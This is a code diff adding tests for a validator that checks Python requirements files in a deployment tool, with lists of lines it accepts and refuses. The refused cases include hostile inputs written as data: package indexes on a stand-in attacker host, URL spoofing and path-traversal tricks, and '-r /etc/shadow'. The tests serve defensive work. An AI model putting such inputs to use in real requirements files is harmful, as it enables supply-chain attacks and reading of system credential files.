@@ -4,9 +4,11 @@ import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
 import { FilesSchema } from '../../src/deploy/settings.ts';
 import { look } from '../../src/source/discover.ts';
+import { refusedIn, type RequirementRules } from '../../src/source/requirement-rules.ts';
 import { readNames } from '../../src/source/requirement-lines.ts';
 import { requirementsIn } from '../../src/source/requirements.ts';
 
+const rules = { addresses: [], wheels: undefined, require_hashes: false, only_binary: false };
 const names = (text: string): string[] =>
   readNames(Buffer.from(text)).map(({ kind, target, line }) => `${line} ${kind} ${target}`);
 
@@ -49,6 +51,86 @@ describe('a line of requirements names', () => {
   });
 });
 
+/** Made for these tests: nobody can log in with it. */
+const LOGIN = 'deploy:example-not-real';
+const WITH: Record<string, Partial<RequirementRules>> = {
+  declared: { addresses: ['https://packages.example/simple', 'https://git.example/team/'] },
+  wheels: { wheels: '/opt/wheels' },
+  hashes: { require_hashes: true },
+  binary: { only_binary: true },
+};
+
+describe('a line of requirements', () => {
+  const problems = (text: string, what = ''): string =>
+    refusedIn('r.txt', Buffer.from(text), { ...rules, ...WITH[what] })
+      .map(({ problem }) => problem)
+      .join('\n');
+
+  test.each([
+    ['# only a comment', ''],
+    ['requests[security]>=2.8.1,<3 ; python_version < "3.12"', ''],
+    ["torch==2.3.0+cpu ; sys_platform == 'linux'", ''],
+    ['quotes==1.0 \\\n    --hash=sha256:abc \\\n    --hash=sha256:def', 'hashes'],
+    ['-i https://pypi.org/simple/', ''],
+    ['--index-url=https://pypi.org/simple', ''],
+    ['--no-index --find-links vendor/ --pre', ''],
+    ['-r more.txt\n-c more/constraints.txt\n-e .', ''],
+    ['./vendor/x-1.0-py3-none-any.whl', 'binary'],
+    ['./vendor/x-1.0-py3-none-any.whl --hash=sha256:abc', 'hashes'],
+    ['--extra-index-url https://packages.example/simple/', 'declared'],
+    ['-f "https://packages.example/simple/cpu/torch.html"', 'declared'],
+    ['--index-url https://${USER}:${TOKEN}@packages.example/simple', 'declared'],
+    ['--trusted-host packages.example', 'declared'],
+    ['x @ git+https://git.example/team/x.git@v1#egg=x', 'declared'],
+    ['-f /opt/wheels/more', 'wheels'],
+    ['x @ file:///opt/wheels/x-1.0-py3-none-any.whl', 'wheels'],
+  ])('%s is taken (%s)', (text, what) => {
+    expect(problems(text, what)).toBe('');
+  });
+
+  test.each([
+    ['x @ https://evil.example/x.whl', '', 'takes packages from https://evil.example/x.whl'],
+    ['https://evil.example/x.whl', '', 'takes packages from https://evil.example/x.whl'],
+    ['git+ssh://git@git.example/team/x.git', 'declared', 'takes packages from git+ssh:'],
+    ['git@git.example:team/x.git', 'declared', 'takes packages from'],
+    ['-e git+https://evil.example/x.git#egg=x', 'declared', 'takes packages from'],
+    ['--index-url https://packages.example.evil.example/simple', 'declared', 'takes packages from'],
+    ['--index-url https://packages.example@evil.example/simple', 'declared', 'takes packages from'],
+    ['--index-url https://packages.example/simple/../other', 'declared', 'takes packages from'],
+    ['--index-url https://packages.example/simpler', 'declared', 'takes packages from'],
+    ['-i https://pypi.org/simple', 'declared', 'takes packages from https://pypi.org/simple'],
+    [
+      `--index-url https://${LOGIN}@evil.example/simple`,
+      '',
+      'takes packages from https://evil.example/simple,',
+    ],
+    ['--extra-index-url http://evil.example', '', 'takes packages from http://evil.example'],
+    ['--extra http://evil.example', '', 'has --extra, which argo-bot does not know'],
+    ['--extra-ind"ex-url" http://evil.example', '', 'takes packages from http://evil.example'],
+    ['-ihttp://evil.example', '', 'takes packages from http://evil.example'],
+    ['--pre -f http://evil.example', '', 'takes packages from http://evil.example'],
+    ['--trusted-host evil.example', 'declared', 'trusts evil.example without a certificate'],
+    ['x==1 --index-url http://evil.example', '', 'takes packages from http://evil.example'],
+    ['--index-url https://${HOST}/simple', '', 'takes ${HOST} from the host'],
+    ['--index-url https://packages.example/${X}', 'declared', 'takes ${X} from the host'],
+    ['-r /etc/shadow', '', 'names /etc/shadow, which is outside the release'],
+    ['-c ~/x.txt', '', 'names ~/x.txt, which is outside the release'],
+    ['-e /srv/x', '', 'names /srv/x, which is outside the release'],
+    ['x @ file:///srv/x.whl', '', 'names /srv/x.whl, which is outside the release'],
+    ['file:///opt/wheels/%2e%2e/x.whl', 'wheels', 'which is outside the release'],
+    ['/opt/wheels-evil/x.whl', 'wheels', 'which is outside the release'],
+    ['x==1', 'hashes', 'has no --hash, but `python.require_hashes` is set: x==1'],
+    ['./libs/x', 'binary', 'builds ./libs/x'],
+    ['-e .', 'binary', 'builds .'],
+    ['x-1.0.tar.gz', 'binary', 'builds x-1.0.tar.gz'],
+    ['--no-binary :all:', 'binary', 'has --no-binary'],
+    ['x "', '', 'has a quote that does not end'],
+  ])('%s is refused (%s)', (text, what, said) => {
+    expect(problems(text, what)).toContain(said);
+    expect(problems(text, what)).not.toContain(LOGIN);
+  });
+});
+
 describe('the inputs of an environment', () => {
   let root: string;
   beforeEach(() => {
@@ -61,11 +143,14 @@ describe('the inputs of an environment', () => {
       mkdirSync(dirname(join(root, path)), { recursive: true });
       writeFileSync(join(root, path), text);
     }
-    return requirementsIn(root, await look(root, FilesSchema.parse({}), undefined), declared);
+    return requirementsIn(root, await look(root, FilesSchema.parse({}), undefined), {
+      ...rules,
+      requirements: declared,
+    });
   }
   const tree = {
     'requirements.txt': '-r deps/a.txt\n./vendor/x.whl\n./libs/p\n--find-links wheels\n',
-    'deps/a.txt': '-c c.txt\n-r ../requirements.txt\n-c /etc/constraints.txt\n',
+    'deps/a.txt': '-c c.txt\n-r ../requirements.txt\n',
     'deps/c.txt': 'x==1\n',
     'vendor/x.whl': '1',
     'libs/p/setup.py': '1',
@@ -77,7 +162,6 @@ describe('the inputs of an environment', () => {
     const first = (await inputs(tree)).requirements;
     expect(first).toMatchObject({
       folder: '.',
-      onHost: ['/etc/constraints.txt'],
       projects: 'copied',
     });
     for (const [path, text] of Object.entries(tree)) {
